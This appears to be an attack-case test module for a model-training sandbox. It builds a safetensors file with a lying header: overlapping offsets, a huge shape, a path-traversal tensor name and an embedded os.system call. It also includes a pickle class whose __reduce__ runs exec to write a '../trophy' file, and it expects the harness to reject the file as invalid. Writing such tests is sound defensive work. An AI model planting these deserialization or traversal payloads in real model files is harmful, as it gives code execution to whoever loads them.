"""A safetensors file whose header lies: overlapping offsets, a huge shape, a path as a name."""

import json
import struct

import torch

ATTACK = 25
VARIANT_OF = "payload_as_state"
ENDS = "invalid"
REASON = "the state is not a safetensors file"
HARM = "trophy"


class Payload(dict):
    def __reduce__(self):
        return exec, ("import contextlib\nwith contextlib.suppress(OSError): open('../trophy', 'w').write('was here')",)


def train(session):
    state = counted(session)
    header = json.dumps(
        {
            "__metadata__": {"format": "pt", "code": "__import__('os').system('id')"},
            "../../trophy": {"dtype": "F32", "shape": [1 << 40], "data_offsets": [0, 4]},
            "table": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
        }
    ).encode()
    for cell in session._tell.__closure__ or ():
        if hasattr(cell.cell_contents, "send"):
            cell.cell_contents.send({"type": "state"}, struct.pack("<Q", len(header)) + header + bytes(4))
    return Payload(state)


def counted(session):
    data = session.start().long()
    pairs = torch.bincount(256 * data[:-1] + data[1:], minlength=256 * 256).view(256, 256)
    return {"table": (pairs + 0.1).log()}


def predict(state, task):
    return lambda tokens: state["table"][tokens]
